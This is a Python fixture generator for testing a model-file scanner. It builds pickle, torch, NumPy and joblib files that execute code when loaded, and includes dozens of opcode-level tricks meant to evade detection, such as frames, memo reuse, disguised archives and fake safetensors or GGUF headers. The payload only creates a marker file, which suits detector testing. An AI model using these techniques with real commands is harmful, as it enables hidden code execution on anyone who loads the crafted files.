"""Files that run code, or write a file, when they are loaded: each leaves a mark, and each by another road.

`live_files(folder, mark)` makes them; `test_hostile.py` loads each in a process of its own, to see the mark. What
reports about other scanners say of how these were passed by is here in files of our own.
"""

from __future__ import annotations

import io
import json
import marshal
import pickle
import struct
import zipfile
import zlib


class Op(bytes):
    """Opcodes that leave one value on the stack."""


def lit(value):
    """Opcodes of a literal, or of what is opcodes already."""
    if isinstance(value, Op):
        return value
    if isinstance(value, str):
        data = value.encode()
        return Op(b"X" + struct.pack("<I", len(data)) + data)
    if isinstance(value, (bytes, bytearray)):
        return Op(b"B" + struct.pack("<I", len(value)) + value)
    if value is None or isinstance(value, bool):
        return Op({None: b"N", True: b"\x88", False: b"\x89"}[value])
    if isinstance(value, int):
        return Op(b"J" + struct.pack("<i", value))
    if isinstance(value, tuple):
        return Op(b"(" + b"".join(map(lit, value)) + b"t")
    if isinstance(value, list):
        return Op(b"](" + b"".join(map(lit, value)) + b"e")
    if isinstance(value, dict):
        return Op(b"}(" + b"".join(lit(key) + lit(entry) for key, entry in value.items()) + b"u")
    raise TypeError(value)


def name(module, attribute):
    return Op(lit(module) + lit(attribute) + b"\x93")


def call(callee, *arguments):
    """`module.name(*arguments)` by REDUCE."""
    if isinstance(callee, str):
        callee = name(*callee.split(":"))
    return Op(callee + lit(arguments) + b"R")


def build(target, state):
    return Op(target + lit(state) + b"b")


def new(cls, *arguments):
    return Op(cls + lit(arguments) + b"\x81")


def attribute(value, path):
    return call("builtins:getattr", value, path)


def whole(code, protocol=4):
    return b"\x80" + bytes([protocol]) + code + b"."


def by_call(mark, payload):
    """Roads that are one call, or a few."""
    touch, write = f"touch {mark}", f"open({str(mark)!r}, 'w').close()"
    path, folder = str(mark), str(mark.parent)
    code = marshal.dumps(compile(write, "x", "exec"))
    system = name("os", "system")
    bash = ["touch", path]
    source = str(payload["module.py"])
    listed = {
        "os.system": call(system, touch),
        "posix.system": call("posix:system", touch),
        "os.popen": call(attribute(call("os:popen", touch), "read")),
        "os.execvp": call("os:execvp", "touch", bash),
        "os.spawnlp": call("os:spawnlp", 0, "touch", *bash),
        "os.posix_spawn": call("os:waitpid", call("os:posix_spawnp", "touch", bash, {}), 0),
        "os.mkdir": call("os:mkdir", path),
        "os.symlink": call("os:symlink", "/", path),
        "os.open": call("os:open", path, 0o101),
        "os.mkfifo": call("os:mkfifo", path),
        "subprocess.Popen": call(attribute(call("subprocess:Popen", bash), "wait")),
        "subprocess.run": call("subprocess:run", bash),
        "subprocess.call": call("subprocess:call", bash),
        "subprocess.check_output": call("subprocess:check_output", bash),
        "subprocess.getoutput": call("subprocess:getoutput", touch),
        "subprocess.getstatusoutput": call("subprocess:getstatusoutput", touch),
        "pty.spawn": call("pty:spawn", bash),
        "eval": call("builtins:eval", write),
        "exec": call("builtins:exec", write),
        "compile": call("builtins:exec", call("builtins:compile", write, "x", "exec")),
        "open": call("builtins:open", path, "w"),
        "io.open": call("io:open", path, "w"),
        "_io.FileIO": call("_io:FileIO", path, "w"),
        "codecs.open": call("codecs:open", path, "w"),
        "gzip.open": call("gzip:open", path, "w"),
        "bz2.open": call("bz2:open", path, "w"),
        "lzma.open": call("lzma:open", path, "w"),
        "tarfile.open": call("tarfile:open", path, "w"),
        "zipfile.ZipFile": call("zipfile:ZipFile", path, "w"),
        "shelve.open": call("shelve:open", path),
        "sqlite3.connect": call(attribute(call("sqlite3:connect", path), "execute"), "create table t (a)"),
        "logging.FileHandler": call("logging:FileHandler", path),
        "tempfile.mkdtemp": call("tempfile:mkdtemp", "", mark.name, folder),
        "shutil.copyfile": call("shutil:copyfile", source, path),
        "shutil.copytree": call("shutil:copytree", str(payload["folder"]), path),
        "urllib.urlretrieve": call("urllib.request:urlretrieve", f"file://{source}", path),
        "runpy.run_path": call("runpy:run_path", source),
        "runpy._run_code": call("runpy:_run_code", call("builtins:compile", write, "x", "exec"), {}),
        "code.runsource": call(attribute(call("code:InteractiveInterpreter"), "runsource"), write),
        "timeit.timeit": call("timeit:timeit", write, "pass", name("time", "perf_counter"), 1),
        "cProfile.run": call("cProfile:run", write),
        "profile.run": call("profile:run", write),
        "bdb.Bdb.run": call(attribute(call("bdb:Bdb"), "runeval"), write),
        "trace.Trace": call(attribute(call("trace:Trace", False, False), "run"), write),
        "imp.load_source": call("importlib._bootstrap:_load", call("importlib.util:spec_from_file_location", "m", source)),
        "importlib.import_module": Op(
            call(attribute(name("sys", "path"), "insert"), 0, folder) + b"0" + call("importlib:import_module", "module")
        ),
        "__import__": Op(call(attribute(name("sys", "path"), "insert"), 0, folder) + b"0" + call("builtins:__import__", "module")),
        "pkgutil.resolve_name": call(call("pkgutil:resolve_name", "os:system"), touch),
        "pydoc.locate": call(call("pydoc:locate", "os.system"), touch),
        "pydoc.pipepager": call("pydoc:pipepager", "x", f"cat > {mark}"),
        "marshal.loads": call(call("types:FunctionType", call("marshal:loads", code), {"__builtins__": name("builtins", "__dict__")})),
        "types.CodeType": call("builtins:exec", call("marshal:loads", code)),
        "pickle.loads": call("pickle:loads", whole(call(system, touch))),
        "_pickle.loads": call("_pickle:loads", whole(call(system, touch))),
        "pickle.load": call("pickle:load", call("io:BytesIO", whole(call(system, touch)))),
        "multiprocessing.util": call("multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", bash, []),
        "ctypes": call(attribute(call("ctypes:CDLL", None), "system"), touch.encode()),
        "webbrowser.GenericBrowser": call(attribute(call("webbrowser:GenericBrowser", bash), "open"), "x"),
        "uuid._get_command_stdout": call("uuid:_get_command_stdout", "touch", path),
        "_osx_support": call("_osx_support:_read_output", touch),
        "asyncio": call("asyncio.runners:run", call("asyncio.subprocess:create_subprocess_exec", *bash)),
        "threading.Timer": call(attribute(call("threading:Thread", None, system, None, (touch,)), "run")),
        "atexit.register": Op(call("atexit:register", system, touch) + b"0" + call("atexit:_run_exitfuncs")),
        "functools.partial": call(call("functools:partial", system, touch)),
        "functools.reduce": call("functools:reduce", name("builtins", "exec"), [write, {}]),
        "operator.methodcaller": call(call("operator:methodcaller", "system", touch), call("builtins:__import__", "os")),
        "operator.attrgetter": call(call(call("operator:attrgetter", "system"), call("importlib:import_module", "os")), touch),
        "operator.call": call("operator:call", system, touch) if hasattr(__import__("operator"), "call") else call(system, touch),
        "getattr of a module": call(attribute(call("builtins:__import__", "os"), "system"), touch),
        "map in list": call("builtins:list", call("builtins:map", system, [touch])),
        "map in set": call("builtins:set", call("builtins:map", system, [touch])),
        "map in bytes": call("builtins:bytes", call("builtins:map", system, [touch])),
        "map in OrderedDict": call("collections:deque", call("itertools:starmap", system, [(touch,)])),
        "map in Counter": call("collections:Counter", call("builtins:map", system, [touch])),
        "filter in tuple": call("builtins:tuple", call("builtins:filter", system, [touch])),
        "map in torch.Size": call("torch:Size", call("builtins:map", system, [touch])),
        "max with a key": call(call("functools:partial", name("builtins", "max")), call("builtins:map", system, [touch, touch])),
        "defaultdict": call(attribute(call("collections:defaultdict", call("functools:partial", system, touch)), "__missing__"), 1),
        "pathlib.Path.touch": call(name("pathlib", "Path.touch"), call("pathlib:Path", path)),
        "pathlib.Path.write_text": call(attribute(call("pathlib:Path", path), "write_text"), "x"),
        "logging.config": call(call("logging.config:_resolve", "os.system"), touch),
        "type": call(call("builtins:type", "T", (name("subprocess", "Popen"),), {}), bash),
        "site.execsitecustomize": Op(call(attribute(name("sys", "path"), "insert"), 0, folder) + b"0" + call("site:execsitecustomize")),
        "py_compile": call("py_compile:compile", source, path),
    }  # fmt: skip
    listed |= {
        "dict.get of __builtins__": call(call(name("builtins", "dict.get"), name("numpy", "__builtins__"), "exec"), write),
        "a module that is overwritten": Op(
            build(name("numpy", "prod"), (None, call(attribute(call("builtins:dict"), "copy")))) + b"0"
            + call(name("numpy", "ctypeslib.ctypes.CDLL"), None) + b"0" + call(name("shutil", "os.system"), touch)
        ),
        "subinterpreters": Op(call("_xxsubinterpreters:run_string", call("_xxsubinterpreters:create"), write)),
        "run_in_subinterp": call("test.support:run_in_subinterp", write),
        "ensurepip": call("ensurepip:_run_pip", ["download", "-d", path, "--no-index", "no-such-package"]),
        "venv": call("venv:create", path),
        "zipapp": call("zipapp:create_archive", str(payload["folder"]), path, None, "hubconf:model"),
        "distutils.write_file": call("distutils.file_util:write_file", path, ["x"]),
        "distutils.spawn": call("distutils.spawn:spawn", bash),
        "idlelib.get_entity": call("idlelib.calltip:get_entity", write),
        "idlelib.autocomplete": call(name("idlelib.autocomplete", "AutoComplete.get_entity"), None, write),
        "lib2to3.loads": call(attribute(call("lib2to3.pgen2.grammar:Grammar"), "loads"), whole(call(system, touch))),
        "code by a dotted name": call(
            name("code", "InteractiveInterpreter.runcode"), call("code:InteractiveInterpreter"), call("builtins:compile", write, "x", "exec")
        ),
        "asyncio's transport": call(
            name("asyncio.unix_events", "_UnixSubprocessTransport._start"),
            call("types:SimpleNamespace"), touch, True, None, None, None, 0,
        ),
        "pip._vendor": call(
            attribute(call("pip._vendor.distlib.util:FileOperator"), "write_text_file"), path, "x", "utf-8"
        ),
        "weakref.finalize": call(attribute(call("weakref:finalize", new(name("torch.nn.modules.linear", "Identity")), system, touch), "__call__")),
        "itertools.accumulate": call("builtins:tuple", call("itertools:accumulate", [write, {}], name("builtins", "exec"))),
        "contextvars": call(
            attribute(call("contextvars:Context"), "run"), system, touch
        ),
        "concurrent.futures": call(attribute(call("concurrent.futures.thread:_WorkItem", call("concurrent.futures._base:Future"), system, (touch,), {}), "run")),
    }  # fmt: skip
    torch_ways = {
        "torch.load": call("torch:load", str(payload["payload.pt"]), None, call("importlib:import_module", "pickle")),
        "torch.serialization.load": call("torch.serialization:load", str(payload["payload.pt"]), None, call("importlib:import_module", "pickle")),
        "torch.storage._load_from_bytes": call("torch.storage:_load_from_bytes", payload["payload.pt"].read_bytes()),
        "torch.hub.load": call("torch.hub:_load_local", str(payload["folder"]), "model"),
        "torch.jit.execWrapper": call("torch.jit.unsupported_tensor_ops:execWrapper", write, {}, {}),
        "torch.collect_env": call("torch.utils.collect_env:run", touch),
        "torch.save": call("torch:save", 1, path),
        "torch.from_file": call("torch:from_file", path, True, 10),
        "torch.config_module": call(attribute(name("torch._dynamo", "config"), "load_config"), whole(call(system, touch))),
        "torch.fx._exec_with_source": call("torch.fx.graph_module:_exec_with_source", write, {}),
        "torch.fx._forward_from_src": call("torch.fx.graph_module:_forward_from_src", f"{write}\nforward = 1", {}),
        "torch.fx.reduce_graph_module": call("torch.fx.graph_module:reduce_graph_module", {"_code": f"{write}\ndef forward(self): pass"}, ""),
        "torch.datapipes": call("torch.utils.data.datapipes.utils.decoder:basichandlers", "pickle", whole(call(system, touch))),
        "torch.os": call(name("torch.serialization", "os.system"), touch),
        "torch.FloatStorage.from_file": call(name("torch.storage", "UntypedStorage.from_file"), path, True, 10),
        "_rebuild_from_type_v2": call("torch._tensor:_rebuild_from_type_v2", system, name("torch", "Tensor"), (touch,), None),
        "_rebuild_from_type": call("torch._tensor:_rebuild_from_type", system, name("torch", "Tensor"), (touch,), None),
        "copyreg.__newobj__": call("copyreg:__newobj__", name("_io", "FileIO")) + b"0" + call(name("subprocess", "Popen"), bash),
        "regraft._make_by": call("regraft.graft.classes:_make_by", system, (touch,), []),
        "numpy.runstring": call("numpy.testing._private.utils:runstring", write, {}),
        "numpy.getlincoef": call("numpy.f2py.crackfortran:getlincoef", write, {}),
        "numpy._eval_length": call("numpy.f2py.crackfortran:_eval_length", f"1 if {write} else 2", {}),
        "numpy.save": call("numpy:savetxt", path, [1]),
        "numpy.memmap": call("numpy:memmap", path, "uint8", "w+", 0, (3,)),
        "numpy.open_memmap": call("numpy.lib.format:open_memmap", path, "w+", None, (3,)),
        "numpy.load": call("numpy:load", str(payload["payload.npy"]), None, True),
        "joblib.load": call("joblib:load", str(payload["payload.pkl"])),
        "joblib.dump": call("joblib:dump", 1, path),
        "sympy.sympify": call("sympy.core.sympify:sympify", write),
        "sympy.parse_expr": call("sympy.parsing.sympy_parser:parse_expr", write),
        "sympy.lambdify": call(call("sympy.utilities.lambdify:lambdify", [], write)),
        "yaml.unsafe_load": call("yaml:unsafe_load", f"!!python/object/apply:os.system ['{touch}']"),
        "timm.load_checkpoint": call("timm.models._helpers:load_state_dict", str(payload["payload.pt"]), True, "cpu", False),
        "transformers.get_class_in_module": call("transformers.dynamic_module_utils:get_class_in_module", "X", source),
        "setuptools": call("setuptools._distutils.spawn:spawn", bash),
        "jinja2": call(attribute(call(attribute(call("jinja2:Environment"), "from_string"), "{{ cycler.__init__.__globals__.os.popen('" + touch + "').read() }}"), "render")),
        "distributed": call("torch.distributed.elastic.multiprocessing.subprocess_handler:SubprocessHandler", "touch", (path,), {}, None, None, 0, None),
    }  # fmt: skip
    return listed | torch_ways


def by_machinery(mark):
    """Roads through the pickle machine itself; whole streams."""
    touch, write = f"touch {mark}", f"open({str(mark)!r}, 'w').close()"
    line = touch.encode()
    system = name("os", "system")
    net = new(name("torch.nn.modules.linear", "Identity"))
    argument = b"X" + struct.pack("<I", len(line)) + line
    frame = b"\x95" + struct.pack("<Q", 8)
    upper = "".join(f"\\x{ord(mark):02x}" for mark in "os")
    sys_path = str(mark.parent)
    return {
        "inst": b"(S'" + line + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'" + line + b"'\no.",
        "global in protocol 0": b"cos\nsystem\n(S'" + line + b"'\ntR.",
        "global in protocol 1": b"cos\nsystem\n(U" + bytes([len(line)]) + line + b"tR." if len(line) < 256 else b"cos\nsystem\n(" + argument + b"tR.",
        "Python 2's builtins": b"c__builtin__\neval\n(V" + write.encode() + b"\ntR.",
        "Python 2's commands": b"ccommands\ngetoutput\n(V" + line + b"\ntR.",
        "newobj of a class": whole(new(name("subprocess", "Popen"), ["touch", str(mark)])[:-1] + b"R"),
        "newobj_ex": whole(name("zipfile", "ZipFile") + lit(()) + lit({}) + b"\x92" + b"0" + call(system, touch)),
        "in a list": whole(lit([1, {"a": call(system, touch)}])),
        "popped at once": whole(Op(call(system, touch) + b"0" + b"}")),
        "popped with a mark": whole(Op(b"(" + call(system, touch) + b"1}")),
        "behind a benign dictionary": whole(Op(b"}" + call(system, touch) + b"0")),
        "then cut": whole(call(system, touch))[:-1],
        "then an unknown opcode": whole(call(system, touch))[:-1] + b"\xff",
        "a key of a dictionary": whole(Op(b"}" + call(system, touch) + b"Ns")),
        "a persistent id": whole(Op(call(system, touch) + b"Q")),
        "frames in frames": b"\x80\x04" + frame + frame + b"\x95" + struct.pack("<Q", 0) + call(system, touch) + b".",
        "a frame that ends in a name": b"\x80\x04\x95" + struct.pack("<Q", 3) + call(system, touch) + b".",
        "a text across two frames": b"\x80\x04\x95" + struct.pack("<Q", 2) + b"X\0\x02\0\0\0os" + lit("system") + b"\x93" + lit((touch,)) + b"R.",
        "a line across two frames": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"ctoos\nsystem\n" + lit((touch,)) + b"R.",
        "a pickle behind a frame": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"N.N" + b"\x80\x02" + call(system, touch) + b".",
        "a frame longer than the file": b"\x80\x04\x95" + struct.pack("<Q", 10**6) + call(system, touch) + b".",
        "an octal integer": b"\x80\x02I010\n0" + call(system, touch) + b".",
        "a NUL in an index": b"\x80\x02}p1\0junk\n0" + call(system, touch) + b".",
        "a NUL in a number": b"\x80\x02L5\0junk\n0I7\0junk\n0F1.5\0junk\n0" + call(system, touch) + b".",
        "an index out of order": whole(Op(system + b"r\x00\x00\x01\x00" + b"0j\x00\x00\x01\x00" + lit((touch,)) + b"R")),
        "memoized over another": whole(Op(b"}q\x000" + system + b"q\x000h\x00" + lit((touch,)) + b"R")),
        "memoize counts": whole(Op(b"}r\x09\x00\x00\x000" + system + b"\x940h\x01" + lit((touch,)) + b"R")),
        "put and memoize": whole(Op(b"X\x02\x00\x00\x00osq\x00X\x06\x00\x00\x00systemq\x01X\x01\x00\x00\x00a\x94X\x01\x00\x00\x00b\x94h\x00h\x01\x93" + lit((touch,)) + b"R")),
        "duplicated": whole(Op(system + b"2" + lit((touch,)) + b"R")),
        "escapes in a string": b"\x80\x02S'" + upper.encode() + b"'\n" + lit("system") + b"\x93" + lit((touch,)) + b"R.",
        "escapes in a text": b"\x80\x02V\\u006f\\u0073\n" + lit("system") + b"\x93" + lit((touch,)) + b"R.",
        "names as bytes of Python 2": b"\x80\x02U\x02osU\x06system\x93" + lit((touch,)) + b"R.",
        "a name that is computed": whole(Op(call("builtins:str", "os") + lit("system") + b"\x93" + lit((touch,)) + b"R")),
        "a name from a default": whole(Op(call("builtins:str", b"os", "ascii") + lit("system") + b"\x93" + lit((touch,)) + b"R")),
        "a dotted name": whole(call(name("torch.serialization", "os.system"), touch)),
        "a name behind another's": whole(call(name("torch.nn.functional", "torch.serialization.os.system"), touch)),
        "arguments that are computed": whole(Op(system + call("builtins:tuple", [touch]) + b"R")),
        "an attribute that is called by a state": whole(build(build(net, {"__setstate__": name("builtins", "exec")}), write)),
        "an attribute that is called by appending": whole(
            Op(build(new(name("torch.nn.modules.linear", "Identity")), {"append": name("builtins", "exec")}) + lit(write) + b"a")
        ),
        "an attribute that is called by adding": whole(
            Op(build(new(name("torch.nn.modules.linear", "Identity")), {"add": name("builtins", "exec")}) + b"(" + lit(write) + b"\x90")
        ),
        "a class that is changed": whole(
            Op(build(name("argparse", "Namespace"), (None, {"__setstate__": name("builtins", "exec")})) + b"0"
               + build(new(name("argparse", "Namespace")), write))
        ),
        "a special key that is computed": whole(
            build(build(net, {call("builtins:str", "__setstate__"): name("builtins", "exec")}), write)
        ),
        "items of a module": whole(Op(name("os", "environ") + lit("A") + lit("b") + b"s0" + call(system, touch))),
        "items of sys.modules": whole(Op(name("sys", "modules") + lit("harmless") + call("builtins:__import__", "os")
                                         + b"s0" + call(name("harmless", "system"), touch))),
        "the state of a list": whole(Op(b"]Nb0" + call(system, touch))),
        "an item of a list": whole(Op(lit([1]) + lit(0) + lit(2) + b"s0" + call(system, touch))),
        "an item of bytes": whole(Op(b"\x96" + struct.pack("<Q", 1) + b"a" + lit(0) + lit(2) + b"s0" + call(system, touch)), 5),
        "bytes that are extended": whole(Op(b"\x96" + struct.pack("<Q", 1) + b"a(" + lit(5) + b"e0" + call(system, touch)), 5),
        "nothing appended to a text": whole(Op(lit("x") + b"(e0" + call(system, touch))),
        "nothing added to a number": whole(Op(lit(1) + b"(u0" + call(system, touch))),
        "long before it": whole(Op(b"}0" * 60_000 + call(system, touch))),
        "a long text before it": whole(Op(lit("x" * 70_000) + b"0" + call(system, touch))),
        "begins with a text": b"\x8c\x02os\x8c\x06system\x93" + lit((touch,)) + b"R.",
        "begins with a frame": frame + call(system, touch) + b".",
        "begins with a number": b"\x8a\x01\x050" + call(system, touch) + b".",
        "begins with true": b"\x880" + call(system, touch) + b".",
        "begins with bytes": b"C\x01x0" + call(system, touch) + b".",
        "begins with a set": b"\x8f0" + call(system, touch) + b".",
        "a script too": b"\x80\x04" + call(system, touch) + b".\n#!/bin/sh",
        "path and import": whole(
            Op(call(attribute(name("sys", "path"), "append"), sys_path) + b"0" + new(name("module", "Net")) + b"0" + call(system, touch))
        ),
    }  # fmt: skip


def in_other_forms(stream, mark):
    """One hostile pickle in other files than a plain one; `name -> (content, loader)`."""
    import numpy as np
    import torch

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as file:
        file.writestr("m/data.pkl", stream)
        file.writestr("m/version", "3\n")
    simple = inner.getvalue()

    def archive(entries, method=zipfile.ZIP_STORED, comment=b""):
        room = io.BytesIO()
        with zipfile.ZipFile(room, "w", method) as file:
            for entry, content in entries:
                file.writestr(entry, content)
            file.comment = comment
        return room.getvalue()

    version = ("m/version", b"3\n")
    nested = whole(call("torch.storage:_load_from_bytes", simple))
    crc = bytearray(simple)
    for magic, at in ((b"PK\3\4", 14), (b"PK\1\2", 16)):
        crc[crc.find(magic) + at] ^= 0xFF
    flagged = bytearray(simple)
    flagged[simple.find(b"PK\3\4") + 6] |= 1
    renamed = simple.replace(b"m/data.pkl", b"m/READM.md", 1)
    array = np.array([1], dtype=object)
    room = io.BytesIO()
    np.save(room, array, allow_pickle=True)
    npy = room.getvalue()[: room.getvalue().index(b"\n") + 1] + stream
    magic = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True, "protocol_version": 1001, "type_sizes": {"short": 2, "int": 4, "long": 4}})]  # fmt: skip
    weights = io.BytesIO()
    torch.save({"a": torch.zeros(3)}, weights)
    with zipfile.ZipFile(weights) as file:
        members = [(entry, file.read(entry)) for entry in file.namelist() if not entry.endswith("data.pkl")]
    header = json.dumps({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    padded = header[:-1] + b" " * (ord("V") - len(header)) + header[-1:]
    return {
        "in an archive": (simple, "torch"),
        "deflated": (archive([("m/data.pkl", stream), version], zipfile.ZIP_DEFLATED), "torch"),
        "in upper case": (archive([("m/DATA.PKL", stream), version]), "torch"),
        "in mixed case, beside another": (archive([version, ("m/Data.Pkl", stream), ("m/more/data.pkl", b"}.")]), "torch"),
        "behind weights": (archive([*members, ("archive/data.pkl", stream)]), "torch"),
        "twice": (archive([("m/data.pkl", stream), ("m/DATA.pkl", stream), version]), "torch"),
        "with a comment": (archive([("m/data.pkl", stream), version], comment=b"a comment"), "torch"),
        "with a wrong checksum": (bytes(crc), "torch"),
        "encrypted, says its own header": (bytes(flagged), "torch"),
        "renamed in its own header": (renamed, "torch"),
        "an archive in an archive": (archive([("m/data.pkl", nested), version]), "torch"),
        "an archive in a pickle": (nested, "pickle"),
        "in an archive in two archives": (archive([("m/data.pkl", whole(call("torch.storage:_load_from_bytes", nested))), version]), "torch"),
        "an old file": (b"".join([*magic, stream, pickle.dumps([], 2)]), "torch"),
        "an old file, at once": (b"".join([magic[0], stream]), "torch"),
        "an old file, as its keys": (b"".join([*magic, pickle.dumps({}, 2), stream]), "torch"),
        "an array of NumPy": (npy, "numpy"),
        "an archive of NumPy": (archive([("a.npy", npy)]), "npz"),
        "safetensors too": (struct.pack("<Q", ord("V")) + padded + b"\n0" + stream, "pickle"),
        "GGUF too": (b"GGUF\x03\0\0\0\0" + b"0" + stream, "pickle"),
        "a program too": (b"MZ\x900" + stream, "pickle"),
        "TorchScript too": (archive([("m/data.pkl", stream), version, ("m/constants.pkl", b").")]), "member"),
        "a program of torch.export too": (archive([("m/data.pkl", stream), version, ("m/models/model.json", b"{}")]), "torch"),
        "with zlib's best": (archive([("m/data.pkl", zlib.decompress(zlib.compress(stream))), version], zipfile.ZIP_DEFLATED), "torch"),
    }  # fmt: skip


def by_joblib(mark):
    """Roads through the arrays that joblib writes between the opcodes of a pickle; `name -> (stream, loader)`."""
    import numpy as np

    evil = call("os:system", f"touch {mark}")

    def array(code="f8", shape=(2,), alignment=16, state=None):
        dtype = call("numpy:dtype", code, False, True)
        facts = {"subclass": name("numpy", "ndarray"), "shape": shape, "order": "C", "allow_mmap": False,
                 "dtype": build(dtype, state) if state else dtype, "numpy_array_alignment_bytes": alignment}  # fmt: skip
        return build(new(name("joblib.numpy_pickle", "NumpyArrayWrapper")), facts)

    def file(*parts):
        return b"\x80\x04" + b"".join(parts) + b"."

    memo = lit("os") + b"\x94" + lit("system") + b"\x94"
    return {
        "behind an array": (file(array(), b"\0", bytes(16), b"0", evil), "joblib"),
        "behind a padded array": (file(array(), b"\3\xff\xff\xff", bytes(16), b"0", evil), "joblib"),
        "behind an array of objects": (file(array("O8"), pickle.dumps(np.array([None], dtype=object), 4), b"0", evil), "joblib"),
        "in an array of objects": (file(array("O8"), b"\x80\x04", evil, b".", b"0N"), "joblib"),
        "in the numbers of an array": (file(array("S200", (1,), None), (b"0" + evil + b".").ljust(200, b"N"), b"0N"), "pickle"),
        "behind an array whose text is longer": (
            file(array("U1", (1,), 16, (3, "<", None, None, None, 400, 4, 8)), b"\0", bytes(400), b"0", evil), "joblib"
        ),
        "an array that is memoized otherwise": (
            b"\x80\x04" + memo + b"00" + array("O8") + lit("torch") + b"\x94" + lit("float32") + b"\x94"
            + b"h\0h\1\x93" + lit((f"touch {mark}",)) + b"R..", "pickle",
        ),
    }  # fmt: skip


LOADERS = {
    "a persistent id": "torch",
    "a text across two frames": "stream",
    "a line across two frames": "stream",
    "a pickle behind a frame": "twice",
    "a frame longer than the file": "python",
}
"""What loads a stream that `pickle.loads` does not."""


def live_files(folder, mark):
    """`name -> (content, loader)`; what they need beside them is written into `folder`."""
    folder.mkdir(exist_ok=True)
    (folder / "hub").mkdir(exist_ok=True)
    touch, write = f"touch {mark}", f"open({str(mark)!r}, 'w').close()"
    evil = whole(call("os:system", touch))
    for path in (folder / "module.py", folder / "sitecustomize.py", folder / "hub" / "hubconf.py"):
        path.write_text(f"{write}\nclass Net: pass\ndef model(): pass\n")
    forms = in_other_forms(evil, mark)
    (folder / "payload.pt").write_bytes(forms["in an archive"][0])
    (folder / "payload.pkl").write_bytes(evil)
    (folder / "payload.npy").write_bytes(forms["an array of NumPy"][0])
    payload = {path.name: path for path in folder.iterdir()} | {"folder": folder / "hub"}
    mark_beside = folder / mark.name
    assert mark.parent == folder, mark_beside
    files = {}
    for title, code in by_call(mark, payload).items():
        files[title] = (whole(code), "pickle")
    for title, stream in by_machinery(mark).items():
        files[title] = (stream, LOADERS.get(title, "pickle"))
    return files | forms | by_joblib(mark)
